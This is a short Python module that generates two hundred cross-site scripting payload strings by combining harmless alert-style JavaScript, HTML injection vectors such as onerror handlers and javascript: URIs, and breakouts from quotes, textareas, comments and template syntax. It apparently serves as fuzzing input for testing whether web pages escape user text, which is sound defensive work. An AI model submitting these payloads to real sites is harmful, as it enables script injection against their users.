"""Two hundred texts that would run as scripts if a page took them for anything but texts."""

from collections.abc import Iterator
from itertools import islice, product

# What runs, where it is hidden, and how it breaks out of what is around it.
RUNS = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "import('data:text/javascript,alert(1)')",
    "eval(atob('YWxlcnQoMSk='))",
)
HIDDEN = (
    "<script>{}</script>", "<ScRiPt src=data:,{}></ScRiPt>", "<img src=x onerror={}>", "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x>", "<body onload={}>", "<details open ontoggle={}>", "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>", "<input autofocus onfocus={}>", "<style>@import 'javascript:{}'</style>",
    "<math><mi xlink:href='javascript:{}'>x", "<object data='javascript:{}'>", "<base href='javascript:{}//'>",
)  # fmt: skip
AROUND = (
    "{}",
    "\"'>{}",
    "</textarea>{}",
    "</title>{}",
    "-->{}<!--",
    "</script>{}",
    "{{{{7*7}}}}{{% x %}}{}",
    "\u202e\u0001{}",
    "`${{1}}`{}",
)
TEXTS = 200


def hostile_texts() -> list[str]:
    """Return the texts, each of a hundred characters at most, so that it fits every field."""
    return list(islice(_all(), TEXTS))


def _all() -> Iterator[str]:
    seen = set()
    for number, (around, hidden) in enumerate(product(AROUND, HIDDEN)):
        for offset in (0, 1):
            text = around.format(hidden.format(RUNS[(number + offset) % len(RUNS)]))
            if len(text) <= 100 and text not in seen:
                seen.add(text)
                yield text
